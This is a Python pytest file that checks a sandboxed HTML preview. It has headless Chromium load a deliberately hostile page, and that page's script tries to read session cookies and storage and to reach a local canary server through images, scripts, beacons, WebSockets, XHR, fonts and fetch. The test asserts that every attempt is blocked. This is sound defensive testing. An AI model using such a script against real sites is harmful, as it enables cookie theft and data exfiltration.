"""A real browser (Debian's headless Chromium) opens a preview: its script can neither read the
app's cookies nor reach the network, and Tailwind still styles the page offline.

The page stored here is hostile on purpose and skips the sanitiser (as if an injection got past
it): the preview's response headers alone must contain it. Flow: Chromium opens a helper URL
that sets a cookie for 127.0.0.1 (cookies ignore ports, so the app on the live server's port
would receive it) and redirects to the signed preview URL; the page's script tries to read
cookies and to reach a canary HTTP server every way it can, and writes what happened into the
DOM, which Chromium dumps.
"""

from __future__ import annotations

import json
import re
import subprocess
import threading
from collections.abc import Iterator
from html import unescape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from prototypes.models import DesignProject, Prototype, PrototypeVariant, PrototypeVersion
from prototypes.services.preview import preview_token
from tests.e2e.browser import CHROMIUM, requires_chromium
from tests.factories import UserFactory

pytestmark = requires_chromium

HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Hostile</title></head>
<body>
<h1 id="title" class="font-bold text-4xl">Pricing</h1>
<pre id="result">pending</pre>
<script>
const CANARY = "__CANARY__";
const result = {};
try { result.cookie = "read:" + document.cookie; } catch (e) { result.cookie = "blocked:" + e.name; }
try { document.cookie = "planted=1"; result.set_cookie = "set"; } catch (e) { result.set_cookie = "blocked:" + e.name; }
try { result.storage = "read:" + localStorage.length; } catch (e) { result.storage = "blocked:" + e.name; }
try { result.parent = String(window.top.location.href); } catch (e) { result.parent = "blocked:" + e.name; }
const img = new Image(); img.src = CANARY + "/img";
const link = document.createElement("link"); link.rel = "stylesheet"; link.href = CANARY + "/css";
document.head.appendChild(link);
const script = document.createElement("script"); script.src = CANARY + "/script";
document.head.appendChild(script);
try { navigator.sendBeacon(CANARY + "/beacon", "x"); } catch (e) {}
try { const ws = new WebSocket(CANARY.replace("http", "ws") + "/ws"); } catch (e) {}
try { const xhr = new XMLHttpRequest(); xhr.open("GET", CANARY + "/xhr"); xhr.send(); } catch (e) {}
const style = document.createElement("style");
style.textContent = "@font-face{font-family:x;src:url(" + CANARY + "/font)} body{font-family:x}";
document.head.appendChild(style);
function done(fetchOutcome) {
  result.fetch = fetchOutcome;
  result.font_weight = getComputedStyle(document.getElementById("title")).fontWeight;
  document.getElementById("result").textContent = JSON.stringify(result);
}
fetch(CANARY + "/fetch", {credentials: "include"}).then(
  () => done("reached"), (e) => done("blocked:" + e.name));
</script>
</body></html>"""


class _Recorder(BaseHTTPRequestHandler):
    hits: list[str]
    preview_url: str

    def do_GET(self) -> None:
        if self.path == "/start":
            self.send_response(302)
            self.send_header("Set-Cookie", "appsession=secret-session-value; Path=/")
            self.send_header("Location", self.preview_url)
            self.end_headers()
            return
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"canary")

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        return


@pytest.fixture
def canary() -> Iterator[tuple[ThreadingHTTPServer, list[str]]]:
    hits: list[str] = []
    handler = type("Recorder", (_Recorder,), {"hits": hits, "preview_url": ""})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server, hits
    server.shutdown()
    server.server_close()


def _version(html: str) -> PrototypeVersion:
    user = UserFactory(email="designer@example.com")
    project = DesignProject.objects.create(user=user, name="P")
    prototype = Prototype.objects.create(project=project, name="P", initial_prompt="p")
    variant = PrototypeVariant.objects.create(prototype=prototype, name="Original", is_original=True)
    return PrototypeVersion.objects.create(
        variant=variant, version_number=1, kind="generate", status="complete", html_content=html
    )


def test_a_preview_script_cannot_read_cookies_or_reach_the_network(live, canary, tmp_path):
    server, hits = canary
    canary_url = f"http://127.0.0.1:{server.server_address[1]}"
    version = _version(HOSTILE_PAGE.replace("__CANARY__", canary_url))
    server.RequestHandlerClass.preview_url = (  # type: ignore[attr-defined]
        f"{live.url}/prototype-preview/{preview_token(version_id=version.id)}/"
    )

    completed = subprocess.run(
        [
            CHROMIUM or "chromium",
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
            "--disable-dev-shm-usage",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--virtual-time-budget=5000",
            "--dump-dom",
            f"{canary_url}/start",
        ],
        capture_output=True,
        text=True,
        timeout=90,
        check=False,
    )

    match = re.search(r'<pre id="result">(.*?)</pre>', completed.stdout, re.DOTALL)
    assert match, f"no result in the dumped DOM:\n{completed.stdout[-2000:]}\n{completed.stderr[-2000:]}"
    result = json.loads(unescape(match.group(1)))
    assert result["cookie"] == "blocked:SecurityError"  # an opaque origin has no cookies to read
    assert result["set_cookie"] == "blocked:SecurityError"
    assert result["storage"] == "blocked:SecurityError"
    assert result["fetch"] == "blocked:TypeError"  # connect-src 'none'
    assert hits == []  # nothing reached the canary: no image, stylesheet, script, beacon, socket, XHR, font
    assert "secret-session-value" not in completed.stdout
    assert result["font_weight"] == "700"  # Tailwind (inlined, offline) styled `font-bold`
